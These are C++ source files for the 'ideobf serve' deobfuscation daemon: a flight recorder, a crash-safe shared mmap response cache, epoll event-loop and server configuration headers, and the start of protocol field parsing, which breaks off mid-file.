  if (json.size() > kFileRecordBytes - 1) {
    // An oversized record (pathological ids) keeps its fixed footprint by
    // dropping the phases object, then the tail — the harvest only needs
    // the identity fields at the front.
    Record trimmed = record;
    trimmed.phases.clear();
    json = render_record(trimmed);
    if (json.size() > kFileRecordBytes - 1) {
      json.resize(kFileRecordBytes - 1);
    }
  }
  std::memcpy(file_record, json.data(), json.size());
  file_record[kFileRecordBytes - 1] = '\n';
  [[maybe_unused]] ssize_t r =
      ::pwrite(fd_, file_record, sizeof(file_record),
               static_cast<off_t>(slot * kFileRecordBytes));
}

std::uint64_t FlightRecorder::begin(Record record) {
  std::lock_guard lk(mu_);
  record.seq = next_seq_++;
  record.outcome = "inflight";
  record.unix_seconds = static_cast<std::uint64_t>(::time(nullptr));
  const std::size_t slot = static_cast<std::size_t>(record.seq) % kSlots;
  ring_[slot] = std::move(record);
  mirror(slot, ring_[slot]);
  return ring_[slot].seq;
}

void FlightRecorder::finish(std::uint64_t seq, std::string_view outcome,
                            double engine_seconds, double total_seconds,
                            const telemetry::PipelineProfile& profile) {
  std::lock_guard lk(mu_);
  const std::size_t slot = static_cast<std::size_t>(seq) % kSlots;
  Record& record = ring_[slot];
  if (record.seq != seq) return;  // evicted by ring wraparound
  record.outcome = std::string(outcome);
  record.engine_seconds = engine_seconds;
  record.total_seconds = total_seconds;
  record.phases.clear();
  for (std::size_t i = 0; i < telemetry::kPhaseCount; ++i) {
    const auto phase = static_cast<telemetry::Phase>(i);
    const telemetry::PhaseStat& stat = profile.stat(phase);
    if (stat.count == 0) continue;
    record.phases.emplace_back(telemetry::phase_name(phase),
                               static_cast<double>(stat.self_ns) / 1e9);
  }
  mirror(slot, record);
}

std::string FlightRecorder::dump_json() const {
  std::lock_guard lk(mu_);
  std::string out;
  bool first = true;
  // Newest first: walk seq backwards until the ring runs out of history.
  for (std::uint64_t seq = next_seq_; seq-- > 1;) {
    if (next_seq_ - seq > kSlots) break;
    const Record& record = ring_[static_cast<std::size_t>(seq) % kSlots];
    if (record.seq != seq) continue;
    if (!first) out += ',';
    first = false;
    out += render_record(record);
  }
  return out;
}

}  // namespace ideobf::server
