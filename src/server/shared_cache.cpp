#include "server/shared_cache.h"

#include <fcntl.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <cstring>
#include <mutex>

#include "analysis/json_writer.h"
#include "telemetry/log.h"

namespace ideobf::server {

namespace {

constexpr std::uint64_t kMagic = 0x69646f62666b5631ull;  // "ideobfkV1"-ish
constexpr std::uint32_t kVersion = 1;
/// Set-associativity of slot placement: a key may land in any of these many
/// consecutive slots, with the oldest stamp evicted on store.
constexpr std::uint32_t kWays = 4;

struct FileHeader {
  std::uint64_t magic;
  std::uint32_t version;
  std::uint32_t slot_count;
  std::uint32_t slot_bytes;
  std::uint32_t reserved;
  /// Global logical clock for eviction age; bumped on every store.
  alignas(8) std::uint64_t stamp;
};

/// Per-slot header ahead of the payload bytes. `seq` is the seqlock word:
/// even = stable, odd = write in progress; a slot is empty while seq == 0
/// and key == 0.
struct SlotHeader {
  alignas(8) std::uint64_t seq;
  std::uint64_t key_lo;
  std::uint64_t key_hi;
  std::uint64_t stamp;
  std::uint64_t len;
  std::uint64_t checksum;
};

std::uint64_t entry_checksum(const CacheKey& key, std::string_view payload) {
  std::uint64_t h = fnv1a64(payload, /*seed=*/0x9e3779b97f4a7c15ull);
  h ^= key.lo;
  h *= 1099511628211ull;
  h ^= key.hi;
  h *= 1099511628211ull;
  h ^= payload.size();
  return h;
}

std::atomic_ref<std::uint64_t> atomic_u64(std::uint64_t& word) {
  return std::atomic_ref<std::uint64_t>(word);
}

}  // namespace

std::uint64_t fnv1a64(std::string_view text, std::uint64_t seed) {
  std::uint64_t h = 14695981039346656037ull ^ seed;
  for (const char c : text) {
    h ^= static_cast<unsigned char>(c);
    h *= 1099511628211ull;
  }
  return h;
}

CacheKey make_cache_key(std::string_view source,
                        std::string_view options_fingerprint) {
  const std::uint64_t opts = fnv1a64(options_fingerprint, /*seed=*/0);
  CacheKey key;
  key.lo = fnv1a64(source, opts);
  key.hi = fnv1a64(source, ~opts * 1099511628211ull);
  // A zero key means "empty slot"; nudge the astronomically unlikely case.
  if (!key.valid()) key.lo = 1;
  return key;
}

bool splice_cached_response_line(std::string_view cached_line,
                                 std::string_view id, std::string& out,
                                 std::string_view request_id) {
  // Cached lines are rendered with an empty correlation id, so they all
  // start with the same 9 bytes; splicing swaps in the caller's id and
  // marks the reply as served from cache.
  constexpr std::string_view kPrefix = "{\"id\":\"\",";
  if (cached_line.substr(0, kPrefix.size()) != kPrefix) return false;
  out.clear();
  out += "{\"id\":";
  out += json_quote(id);
  if (!request_id.empty()) {
    out += ",\"request_id\":";
    out += json_quote(request_id);
  }
  out += ",\"cached\":true,";
  out += cached_line.substr(kPrefix.size());
  return true;
}

struct SharedResponseCache::Impl {
  int fd = -1;
  void* map = MAP_FAILED;
  std::size_t map_bytes = 0;
  Config config;
  mutable std::mutex stats_mu;
  Stats stats;

  FileHeader* header() { return static_cast<FileHeader*>(map); }
  SlotHeader* slot(std::uint32_t index) {
    auto* base = static_cast<char*>(map) + sizeof(FileHeader);
    return reinterpret_cast<SlotHeader*>(
        base + static_cast<std::size_t>(index) * config.slot_bytes);
  }
  char* payload_of(SlotHeader* s) {
    return reinterpret_cast<char*>(s) + sizeof(SlotHeader);
  }
  std::size_t payload_capacity() const {
    return config.slot_bytes - sizeof(SlotHeader);
  }

  ~Impl() {
    if (map != MAP_FAILED) ::munmap(map, map_bytes);
    if (fd >= 0) ::close(fd);
  }
};

std::unique_ptr<SharedResponseCache> SharedResponseCache::open(
    const Config& config, std::string& error) {
  if (config.slot_count == 0 || config.slot_bytes <= sizeof(SlotHeader) ||
      config.slot_bytes % alignof(SlotHeader) != 0) {
    error = "invalid shared cache geometry";
    return nullptr;
  }
  auto impl = std::make_unique<Impl>();
  impl->config = config;
  impl->fd = ::open(config.path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  if (impl->fd < 0) {
    error = "cannot open cache file '" + config.path +
            "': " + std::strerror(errno);
    return nullptr;
  }
  const std::size_t want =
      sizeof(FileHeader) +
      static_cast<std::size_t>(config.slot_count) * config.slot_bytes;
  // Initialisation race between workers is settled with an exclusive flock:
  // whoever wins sizes the file and stamps the magic; everyone else sees a
  // fully initialised region by the time the lock is released.
  if (::flock(impl->fd, LOCK_EX) != 0) {
    error = std::string("flock failed: ") + std::strerror(errno);
    return nullptr;
  }
  struct stat st{};
  if (::fstat(impl->fd, &st) != 0) {
    ::flock(impl->fd, LOCK_UN);
    error = std::string("fstat failed: ") + std::strerror(errno);
    return nullptr;
  }
  const bool fresh = st.st_size == 0;
  if (fresh && ::ftruncate(impl->fd, static_cast<off_t>(want)) != 0) {
    ::flock(impl->fd, LOCK_UN);
    error = std::string("ftruncate failed: ") + std::strerror(errno);
    return nullptr;
  }
  if (!fresh && static_cast<std::size_t>(st.st_size) != want) {
    ::flock(impl->fd, LOCK_UN);
    error = "cache file '" + config.path +
            "' has a different geometry; remove it or match the fleet config";
    return nullptr;
  }
  impl->map_bytes = want;
  impl->map = ::mmap(nullptr, want, PROT_READ | PROT_WRITE, MAP_SHARED,
                     impl->fd, 0);
  if (impl->map == MAP_FAILED) {
    ::flock(impl->fd, LOCK_UN);
    error = std::string("mmap failed: ") + std::strerror(errno);
    return nullptr;
  }
  FileHeader* header = impl->header();
  if (fresh) {
    header->version = kVersion;
    header->slot_count = config.slot_count;
    header->slot_bytes = config.slot_bytes;
    header->stamp = 0;
    atomic_u64(header->magic).store(kMagic, std::memory_order_release);
  } else if (atomic_u64(header->magic).load(std::memory_order_acquire) !=
                 kMagic ||
             header->version != kVersion ||
             header->slot_count != config.slot_count ||
             header->slot_bytes != config.slot_bytes) {
    ::flock(impl->fd, LOCK_UN);
    error = "cache file '" + config.path +
            "' is not a compatible ideobf cache region";
    return nullptr;
  }
  ::flock(impl->fd, LOCK_UN);
  auto cache = std::unique_ptr<SharedResponseCache>(new SharedResponseCache());
  cache->impl_ = std::move(impl);
  return cache;
}

SharedResponseCache::~SharedResponseCache() = default;

bool SharedResponseCache::lookup(const CacheKey& key, std::string& payload) {
  Impl& im = *impl_;
  const std::uint32_t base =
      static_cast<std::uint32_t>(key.lo % im.config.slot_count);
  for (std::uint32_t way = 0; way < kWays; ++way) {
    SlotHeader* s = im.slot((base + way) % im.config.slot_count);
    const std::uint64_t seq_before =
        atomic_u64(s->seq).load(std::memory_order_acquire);
    if (seq_before == 0 || (seq_before & 1u) != 0) continue;
    if (s->key_lo != key.lo || s->key_hi != key.hi) continue;
    const std::uint64_t len = s->len;
    if (len > im.payload_capacity()) continue;  // torn header
    payload.assign(im.payload_of(s), len);
    const std::uint64_t checksum = s->checksum;
    std::atomic_thread_fence(std::memory_order_acquire);
    if (atomic_u64(s->seq).load(std::memory_order_relaxed) != seq_before) {
      continue;  // overwritten mid-read; count as a miss
    }
    if (checksum != entry_checksum(key, payload)) {
      // Key matched but the bytes did not: a torn or tampered entry. Surface
      // it as corruption (and a miss) rather than serving the payload.
      if (telemetry::log_enabled(telemetry::LogLevel::Warn)) {
        telemetry::LogEvent(telemetry::LogLevel::Warn, "shared_cache",
                            "cache-entry-corrupt")
            .field("key_lo", static_cast<std::int64_t>(key.lo))
            .field("len", static_cast<std::int64_t>(payload.size()));
      }
      std::lock_guard<std::mutex> lock(im.stats_mu);
      im.stats.corrupt++;
      im.stats.misses++;
      return false;
    }
    std::lock_guard<std::mutex> lock(im.stats_mu);
    im.stats.hits++;
    return true;
  }
  std::lock_guard<std::mutex> lock(im.stats_mu);
  im.stats.misses++;
  return false;
}

bool SharedResponseCache::store(const CacheKey& key, std::string_view payload) {
  Impl& im = *impl_;
  if (payload.size() > im.payload_capacity()) {
    std::lock_guard<std::mutex> lock(im.stats_mu);
    im.stats.store_skips++;
    return false;
  }
  const std::uint32_t base =
      static_cast<std::uint32_t>(key.lo % im.config.slot_count);
  // Pick the victim way: the slot already holding this key, else the oldest.
  std::uint32_t victim = base;
  std::uint64_t victim_stamp = ~0ull;
  for (std::uint32_t way = 0; way < kWays; ++way) {
    const std::uint32_t index = (base + way) % im.config.slot_count;
    SlotHeader* s = im.slot(index);
    const std::uint64_t seq = atomic_u64(s->seq).load(std::memory_order_acquire);
    if ((seq & 1u) != 0) continue;  // mid-write; not a candidate
    if (seq != 0 && s->key_lo == key.lo && s->key_hi == key.hi) {
      victim = index;
      break;
    }
    const std::uint64_t stamp = seq == 0 ? 0 : s->stamp;
    if (stamp < victim_stamp) {
      victim_stamp = stamp;
      victim = index;
    }
  }
  SlotHeader* s = im.slot(victim);
  std::uint64_t seq = atomic_u64(s->seq).load(std::memory_order_relaxed);
  if ((seq & 1u) != 0 ||
      !atomic_u64(s->seq).compare_exchange_strong(
          seq, seq + 1, std::memory_order_acq_rel, std::memory_order_relaxed)) {
    // Another worker is publishing into the same slot right now; losing a
    // cache store is fine, blocking a request on it is not.
    std::lock_guard<std::mutex> lock(im.stats_mu);
    im.stats.store_skips++;
    return false;
  }
  s->key_lo = key.lo;
  s->key_hi = key.hi;
  s->stamp = atomic_u64(im.header()->stamp)
                 .fetch_add(1, std::memory_order_relaxed) +
             1;
  s->len = payload.size();
  s->checksum = entry_checksum(key, payload);
  std::memcpy(im.payload_of(s), payload.data(), payload.size());
  atomic_u64(s->seq).store(seq + 2, std::memory_order_release);
  std::lock_guard<std::mutex> lock(im.stats_mu);
  im.stats.stores++;
  return true;
}

bool SharedResponseCache::corrupt_entry(const CacheKey& key) {
  Impl& im = *impl_;
  const std::uint32_t base =
      static_cast<std::uint32_t>(key.lo % im.config.slot_count);
  for (std::uint32_t way = 0; way < kWays; ++way) {
    SlotHeader* s = im.slot((base + way) % im.config.slot_count);
    const std::uint64_t seq = atomic_u64(s->seq).load(std::memory_order_acquire);
    if (seq == 0 || (seq & 1u) != 0) continue;
    if (s->key_lo != key.lo || s->key_hi != key.hi) continue;
    char* payload = im.payload_of(s);
    const std::uint64_t len = s->len;
    for (std::uint64_t i = 0; i < len; ++i) payload[i] ^= 0x5a;
    return true;
  }
  return false;
}

SharedResponseCache::Stats SharedResponseCache::stats() const {
  std::lock_guard<std::mutex> lock(impl_->stats_mu);
  return impl_->stats;
}

std::uint32_t SharedResponseCache::slot_count() const {
  return impl_->config.slot_count;
}

std::size_t SharedResponseCache::max_payload_bytes() const {
  return impl_->payload_capacity();
}

}  // namespace ideobf::server
