#pragma once

/// \file event_loop.h
/// Building blocks of the serve daemon's epoll event loop: a thin RAII epoll
/// wrapper, an incremental NDJSON line assembler for non-blocking reads, and
/// a per-connection output buffer drained by non-blocking writes. The loop
/// itself lives in server.cpp (it is entangled with dispatch state); these
/// pieces are kept free of server types so the unit tests can drive them
/// byte-at-a-time without sockets.

#include <sys/epoll.h>

#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>

namespace ideobf::server {

/// Puts `fd` into non-blocking mode. Returns false on fcntl failure.
bool set_nonblocking(int fd);

/// RAII epoll instance. All methods are loop-thread-only; the ctor throws
/// std::runtime_error if epoll_create1 fails.
class Epoll {
 public:
  Epoll();
  ~Epoll();
  Epoll(const Epoll&) = delete;
  Epoll& operator=(const Epoll&) = delete;

  bool add(int fd, std::uint32_t events);
  bool mod(int fd, std::uint32_t events);
  void del(int fd);
  /// epoll_wait with EINTR retry; returns the event count (0 on timeout).
  int wait(epoll_event* out, int capacity, int timeout_ms);

 private:
  int fd_ = -1;
};

/// Incremental NDJSON framing for a non-blocking socket: bytes arrive in
/// arbitrary fragments, complete lines come out. A line longer than the cap
/// latches `overflowed()` — the caller reaps the connection (the alternative
/// is buffering a firehose without bound).
class LineAssembler {
 public:
  explicit LineAssembler(std::size_t max_line_bytes)
      : max_line_bytes_(max_line_bytes) {}

  void append(const char* data, std::size_t n);

  /// Extracts the next complete line (without '\n', trailing '\r' stripped).
  /// Returns false when no full line is buffered yet.
  bool next(std::string& line);

  [[nodiscard]] bool overflowed() const { return overflowed_; }
  [[nodiscard]] std::size_t buffered() const { return buf_.size() - start_; }
  /// True once at least one byte has arrived after the last complete line —
  /// i.e. a request is in flight but unfinished (the slow-loris shape).
  [[nodiscard]] bool partial_line_pending() const { return buffered() > 0; }

 private:
  std::string buf_;
  std::size_t start_ = 0;  ///< consumed prefix, erased lazily
  std::size_t scan_ = 0;   ///< resume point of the '\n' search
  std::size_t max_line_bytes_;
  bool overflowed_ = false;
};

/// Bytes queued toward one client, flushed opportunistically by the event
/// loop. Appends are cheap (amortized memmove via a consumed-prefix offset);
/// `flush()` writes as much as the socket accepts without ever blocking.
class OutputBuffer {
 public:
  enum class FlushResult {
    Drained,  ///< buffer is now empty
    Partial,  ///< socket would block; bytes remain (arm EPOLLOUT)
    Error,    ///< fatal write error; reap the connection
  };

  void append(std::string_view bytes);
  FlushResult flush(int fd);

  [[nodiscard]] bool empty() const { return pending_.size() == offset_; }
  [[nodiscard]] std::size_t bytes() const { return pending_.size() - offset_; }

 private:
  std::string pending_;
  std::size_t offset_ = 0;
};

}  // namespace ideobf::server
