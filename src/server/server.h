#pragma once

/// \file server.h
/// The `ideobf serve` daemon: a persistent deobfuscation service on the
/// process-lifetime worker pool, behind the unified Request/Response API.
///
/// Shape of the machine:
///  - listeners: a Unix domain socket (always) and an optional TCP loopback
///    (127.0.0.1, ephemeral port supported), both non-blocking;
///  - one epoll event thread owns every client fd: non-blocking reads feed
///    an incremental NDJSON line assembler, complete requests are admitted
///    (quarantine, token bucket, shared cache) and pushed onto a bounded
///    queue — a full queue answers "overloaded" immediately instead of
///    buffering without bound. There are no per-connection threads;
///  - writes never block: responses land in a per-connection output buffer
///    drained by EPOLLOUT. Worker completions reach the loop over an
///    eventfd. A consumer that stops reading is reaped once its buffered
///    output makes no progress for send_timeout_seconds or crosses
///    outbuf_high_water_bytes; an idle connection is reaped after
///    idle_timeout_seconds. No reap ever blocks an event or worker thread;
///  - worker slots: `threads` long-lived items on ps::WorkerPool, each
///    binding its telemetry shard and holding a warm Engine::Session (parse
///    cache + recovery memo survive across requests — the whole point of a
///    resident service);
///  - per-request envelopes: deadline_ms and a per-item cancellation token
///    thread straight into the PR-2 governor via
///    Engine::Session::handle(request, limits). A client that disconnects
///    cancels its own in-flight work; a watchdog backstops runaway items at
///    deadline * watchdog_factor;
///  - graceful drain: SIGTERM/shutdown-op stops accepting, serves
///    everything queued and in flight (bounded by drain_grace_seconds,
///    after which remaining work is cancelled), then exits.
///
/// Protocol: src/server/protocol.h; worked examples: docs/SERVER.md.

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "ideobf/options.h"

namespace ideobf::server {

struct ServerConfig {
  /// Path of the Unix domain socket to listen on (required). An existing
  /// *socket* at this path is unlinked before bind; any other file type is
  /// a startup error (a typoed --socket must not delete a regular file).
  /// The socket is created owner-only (mode 0600).
  std::string unix_socket_path;
  /// Also listen on TCP loopback (127.0.0.1) when true.
  bool tcp = false;
  /// TCP port; 0 picks an ephemeral port (read it back via tcp_port()).
  std::uint16_t tcp_port = 0;
  /// Worker slots serving the queue. 0 means hardware concurrency.
  unsigned threads = 0;
  /// Bounded request-queue capacity; a push onto a full queue is answered
  /// with an "overloaded" response (explicit backpressure).
  std::size_t max_queue = 64;
  /// Engine configuration every request runs under unless it carries its
  /// own `options` object.
  Options options;
  /// Default per-request deadline in milliseconds applied when a request
  /// names none (0 = no default; requests run ungoverned unless the
  /// configured options impose limits).
  std::uint64_t default_deadline_ms = 0;
  /// How long a graceful drain may spend serving in-flight work before the
  /// watchdog cancels what remains. 0 disables the backstop.
  double drain_grace_seconds = 30.0;
  /// Write-stall budget. Responses are buffered per connection and flushed
  /// by the event loop without ever blocking; a client whose buffered
  /// output makes no forward progress for this long (it stopped reading)
  /// is reaped and its buffered bytes dropped — a worker slot can never
  /// wedge on a non-reading client, and a graceful drain stays bounded.
  /// 0 disables the stall reaper (not recommended outside tests).
  double send_timeout_seconds = 10.0;
  /// Reap a connection that has been idle this long: no complete request
  /// line received (a half-written line does not count — the slow-loris
  /// shape), nothing queued or in flight, and no output pending. 0 (the
  /// default) disables idle reaping.
  double idle_timeout_seconds = 0.0;
  /// Per-connection output-buffer cap. A connection whose buffered, unread
  /// responses already hold this many bytes when another response arrives
  /// is reaped (one response may overshoot the cap, so a single oversized
  /// result is still deliverable; it is accumulation that is bounded).
  std::size_t outbuf_high_water_bytes = 32u << 20;
  /// Honor {"op":"shutdown"} arriving over the TCP listener. Off by
  /// default: TCP loopback carries no peer authentication, so shutdown is
  /// restricted to the filesystem-permissioned Unix socket unless the
  /// operator opts in (see "Trust model" in docs/SERVER.md).
  bool allow_tcp_shutdown = false;

  // --- Admission control ----------------------------------------------------
  /// Per-client token-bucket rate in requests/second; 0 disables admission
  /// control entirely (the bounded queue stays the only backpressure).
  double admission_rate = 0.0;
  /// Bucket capacity (burst allowance). 0 defaults to max(rate, 1).
  double admission_burst = 0.0;

  // --- Fleet mode (supervised worker processes; docs/SERVER.md) ------------
  /// Pre-bound listener fds inherited from the fleet supervisor across
  /// fork+exec. When >= 0 the server uses these instead of binding its own;
  /// every worker sharing one listening fd lets the kernel load-balance
  /// accept() across the fleet. The inheriting server never unlinks the
  /// socket path (the supervisor owns it).
  int inherited_unix_fd = -1;
  int inherited_tcp_fd = -1;
  /// This worker's index in the fleet; < 0 outside fleet mode. Only used
  /// for labeling (metrics, status).
  int worker_index = -1;
  /// Crash journal: before dispatching a request, its script hash is
  /// recorded (one fixed-size record per worker slot, pwrite into this
  /// file) and cleared after — so the supervisor can tell which script a
  /// dead worker was executing. Empty disables.
  std::string crash_journal_path;
  /// Quarantine file (one 16-hex script hash per line): requests hashing to
  /// a listed value are refused with failure=quarantined without touching
  /// the engine. Loaded at startup and on SIGHUP. Empty disables.
  std::string quarantine_path;
  /// Shared response cache backing file; empty disables the cache.
  std::string cache_path;
  std::uint32_t cache_slots = 1024;
  std::uint32_t cache_slot_bytes = 16u << 10;
  /// JSON config hot-reloaded on SIGHUP (default_deadline_ms,
  /// admission_rate, admission_burst, extra_blocklist). Empty disables.
  std::string reload_config_path;
  /// Server-side fault injection points (WorkerAbort / WorkerHang /
  /// CacheCorrupt). Non-owning; null disables. Fleet workers arm the
  /// process-wide injector from --fault and point this at it.
  FaultInjector* server_fault = nullptr;

  // --- Observability (request tracing, fleet metrics, flight recorder) ------
  /// Arms a process-wide Chrome trace recorder: every PhaseSpan (plus the
  /// serve-side queue-wait spans) lands in per-worker lanes, the `trace`
  /// service op dumps the JSON live, and the full trace is written here at
  /// shutdown. Empty disables.
  std::string trace_out_path;
  /// Durable registry snapshot (`state-dir/metrics.N` in fleet mode),
  /// rewritten atomically on every metrics op and on SIGHUP. Any worker
  /// answering `{"op":"metrics","scope":"fleet"}` merges its siblings'
  /// snapshots from the same directory. Empty disables.
  std::string metrics_snapshot_path;
  /// File mirror of the flight-recorder ring (`state-dir/flight.N` in fleet
  /// mode); the supervisor harvests it after an abnormal worker death. The
  /// in-memory ring behind the `debug` op is always on. Empty disables the
  /// mirror only.
  std::string flight_recorder_path;
};

/// Monotonic service counters, kept as plain atomics so they work with
/// telemetry disabled (integration tests assert on them). The same events
/// also feed `ideobf_server_*` registry metrics for the metrics op.
struct ServerStats {
  std::uint64_t connections_total = 0;
  std::uint64_t connections_active = 0;
  std::uint64_t requests_total = 0;
  std::uint64_t ok_total = 0;
  std::uint64_t degraded_total = 0;
  std::uint64_t failed_total = 0;
  std::uint64_t invalid_total = 0;
  std::uint64_t overloaded_total = 0;
  std::uint64_t shutting_down_total = 0;
  /// In-flight or queued requests cancelled because their client hung up.
  std::uint64_t disconnect_cancelled_total = 0;
  /// In-flight requests cancelled by the deadline watchdog backstop.
  std::uint64_t watchdog_cancelled_total = 0;
  std::uint64_t queue_depth = 0;
  /// Admission-control refusals (token bucket empty; subset of overloaded).
  std::uint64_t admission_rejected_total = 0;
  /// Requests refused because their script hash is quarantined.
  std::uint64_t quarantined_total = 0;
  /// Shared response cache traffic (zeros when the cache is disabled).
  std::uint64_t cache_hits_total = 0;
  std::uint64_t cache_misses_total = 0;
  std::uint64_t cache_stores_total = 0;
  /// Cache entries whose checksum failed verification (served as misses).
  std::uint64_t cache_corrupt_total = 0;
  /// SIGHUP config/quarantine reloads applied.
  std::uint64_t reloads_total = 0;
  /// epoll_wait returns that delivered at least one event.
  std::uint64_t epoll_wakeups_total = 0;
  /// Bytes currently buffered toward clients across all connections.
  std::uint64_t outbuf_bytes = 0;
  /// Connections reaped by the idle timeout.
  std::uint64_t idle_reaped_total = 0;
  /// Connections reaped because buffered output made no progress for
  /// send_timeout_seconds (the client stopped reading).
  std::uint64_t stall_reaped_total = 0;
  /// Connections reaped at the output-buffer high-water mark.
  std::uint64_t outbuf_reaped_total = 0;
};

class Server {
 public:
  explicit Server(ServerConfig config);
  ~Server();
  Server(const Server&) = delete;
  Server& operator=(const Server&) = delete;

  /// Binds the listeners and spawns the accept loop, worker slots, and
  /// watchdog. Throws std::runtime_error when a listener cannot be bound.
  void start();

  /// Initiates a graceful drain (async-signal-safe is NOT guaranteed here;
  /// signal handlers should use notify_stop_from_signal()). Idempotent.
  void request_stop();

  /// Blocks until the server has fully drained and torn down. start() must
  /// have been called.
  void wait();

  /// request_stop() + wait().
  void stop();

  /// The bound TCP port (meaningful after start() when config.tcp is set;
  /// 0 otherwise).
  [[nodiscard]] std::uint16_t tcp_port() const;

  [[nodiscard]] ServerStats stats() const;

  /// Async-signal-safe stop trigger: installs this server as the target of
  /// SIGTERM/SIGINT. The handler only writes a byte to the server's
  /// self-pipe; the accept loop turns that into a graceful drain.
  void install_signal_handlers();

 private:
  struct Impl;
  std::unique_ptr<Impl> impl_;
};

/// Stable fingerprint text of everything option-shaped that can change a
/// response — the second half of the shared-cache key (make_cache_key).
/// `language` must be the request's *resolved* front-end language ("" and
/// "auto" already normalized), so identical source bytes submitted under
/// different front-ends never alias to one cached response. Exposed for the
/// server tests; the server itself is the only production caller.
[[nodiscard]] std::string options_fingerprint(
    const Options& options, std::uint64_t deadline_ms,
    const std::vector<std::string>& blocklist, std::string_view language);

}  // namespace ideobf::server
