#pragma once

/// \file shared_cache.h
/// Content-addressed response cache shared across fleet worker processes.
///
/// The wild corpus is dominated by campaign-duplicated scripts, so the same
/// source arrives at different workers over and over; this cache makes sure
/// it reaches the sandbox once per fleet, not once per process. Keys are a
/// 128-bit fingerprint of (script source, effective options); values are the
/// fully rendered NDJSON response line with an empty correlation id, spliced
/// with the real id on a hit (see splice_cached_response_line).
///
/// The region is a file-backed mmap(MAP_SHARED) shared by plain open() from
/// each worker — no shm names to leak, and `ls`/`rm` work on it. Workers
/// crash by design here, so every entry is crash-safe on its own:
///
///   * each fixed-size slot is guarded by a seqlock word (odd = write in
///     progress) published with release ordering, so a reader never sees a
///     half-written entry as valid;
///   * each entry carries an FNV-1a checksum over key+payload, so a torn
///     write that survived a crash (or bit rot, or a hostile edit of the
///     backing file) reads as a miss, never as a response.
///
/// Trust model: the cache file is as trusted as the server binary — anyone
/// who can write it can serve forged responses, so it lives in the fleet
/// state directory (created 0700). The checksum is an integrity check
/// against crashes, not an authentication mechanism.

#include <cstdint>
#include <memory>
#include <string>
#include <string_view>

namespace ideobf::server {

/// 128-bit content-address: `lo` doubles as the slot-placement hash.
struct CacheKey {
  std::uint64_t lo = 0;
  std::uint64_t hi = 0;
  [[nodiscard]] bool valid() const { return lo != 0 || hi != 0; }
};

/// FNV-1a over `text`, seeded so independent streams decorrelate.
std::uint64_t fnv1a64(std::string_view text, std::uint64_t seed);

/// The content address of a request: source hashed twice with independent
/// seeds (128 bits against campaign-scale birthday collisions), both halves
/// mixed with the options fingerprint so the same script under different
/// limits/blocklists never aliases.
CacheKey make_cache_key(std::string_view source,
                        std::string_view options_fingerprint);

/// Rewrites a cached response line (rendered with id = "", i.e. starting
/// `{"id":"",`) for a specific request: the real id is spliced in, a
/// non-empty `request_id` (the server-assigned trace/log join key) is echoed
/// right after it, and a `"cached":true` marker added. Returns false when
/// `cached_line` does not have the expected prefix (treat as a cache miss).
bool splice_cached_response_line(std::string_view cached_line,
                                 std::string_view id, std::string& out,
                                 std::string_view request_id = {});

/// Process-local view of one shared cache region.
class SharedResponseCache {
 public:
  struct Config {
    std::string path;              ///< backing file (created if missing)
    std::uint32_t slot_count = 1024;
    std::uint32_t slot_bytes = 16u << 10;  ///< per-slot size, header included
  };

  /// Per-process counters (mirrored into ideobf_fleet_cache_* telemetry by
  /// the server; kept here too so tests don't need the registry).
  struct Stats {
    std::uint64_t hits = 0;
    std::uint64_t misses = 0;
    std::uint64_t stores = 0;
    std::uint64_t store_skips = 0;  ///< oversized payload or slot contention
    std::uint64_t corrupt = 0;      ///< key matched, checksum did not
  };

  /// Opens (creating and initialising under an flock if needed) the region.
  /// Returns null with a reason in `error` on I/O failure or on an existing
  /// file with a mismatched magic/geometry.
  static std::unique_ptr<SharedResponseCache> open(const Config& config,
                                                   std::string& error);
  ~SharedResponseCache();

  SharedResponseCache(const SharedResponseCache&) = delete;
  SharedResponseCache& operator=(const SharedResponseCache&) = delete;

  /// True on a checksum-verified hit; `payload` receives the cached line.
  bool lookup(const CacheKey& key, std::string& payload);

  /// Publishes `payload` under `key`. False when the payload does not fit a
  /// slot or every candidate slot is mid-write (callers just don't cache).
  bool store(const CacheKey& key, std::string_view payload);

  /// Fault hook (FaultSite::CacheCorrupt) and test back door: flips payload
  /// bytes of the entry stored under `key` without touching its checksum.
  /// Returns false when the key is not present.
  bool corrupt_entry(const CacheKey& key);

  [[nodiscard]] Stats stats() const;
  [[nodiscard]] std::uint32_t slot_count() const;
  [[nodiscard]] std::size_t max_payload_bytes() const;

 private:
  SharedResponseCache() = default;
  struct Impl;
  std::unique_ptr<Impl> impl_;
};

}  // namespace ideobf::server
