#include "server/protocol.h"

#include <cmath>
#include <cstdint>
#include <limits>

#include "analysis/json_writer.h"
#include "frontends/registry.h"
#include "server/json.h"

namespace ideobf::server {

namespace {

bool type_error(std::string& error, std::string_view key, const char* want) {
  error = "field '";
  error += key;
  error += "' must be ";
  error += want;
  return false;
}

bool read_bool(const JsonValue& obj, std::string_view key, bool& out,
               std::string& error) {
  const JsonValue* v = obj.find(key);
  if (v == nullptr) return true;
  if (!v->is_bool()) return type_error(error, key, "a boolean");
  out = v->as_bool();
  return true;
}

bool read_double(const JsonValue& obj, std::string_view key, double& out,
                 std::string& error) {
  const JsonValue* v = obj.find(key);
  if (v == nullptr) return true;
  if (!v->is_number()) return type_error(error, key, "a number");
  out = v->as_double();
  return true;
}

template <typename T>
bool read_uint(const JsonValue& obj, std::string_view key, T& out,
               std::string& error) {
  const JsonValue* v = obj.find(key);
  if (v == nullptr) return true;
  // ldexp(1.0, digits) is 2^bits(T), exactly representable as a double;
  // casting a value at or beyond it (wire input like 1e300, or any NaN /
  // infinity) would be undefined behavior, so those are schema errors.
  const double d = v->is_number() ? v->as_double() : -1.0;
  if (!v->is_number() || d < 0.0 || std::floor(d) != d ||
      !(d < std::ldexp(1.0, std::numeric_limits<T>::digits))) {
    return type_error(error, key, "a non-negative integer in range");
  }
  out = static_cast<T>(d);
  return true;
}

bool read_int(const JsonValue& obj, std::string_view key, int& out,
              std::string& error) {
  const JsonValue* v = obj.find(key);
  if (v == nullptr) return true;
  const double limit = std::ldexp(1.0, std::numeric_limits<int>::digits);
  const double d = v->is_number() ? v->as_double() : 0.5;
  if (!v->is_number() || std::floor(d) != d ||
      !(d < limit && d >= -limit)) {
    return type_error(error, key, "an integer in range");
  }
  out = static_cast<int>(d);
  return true;
}

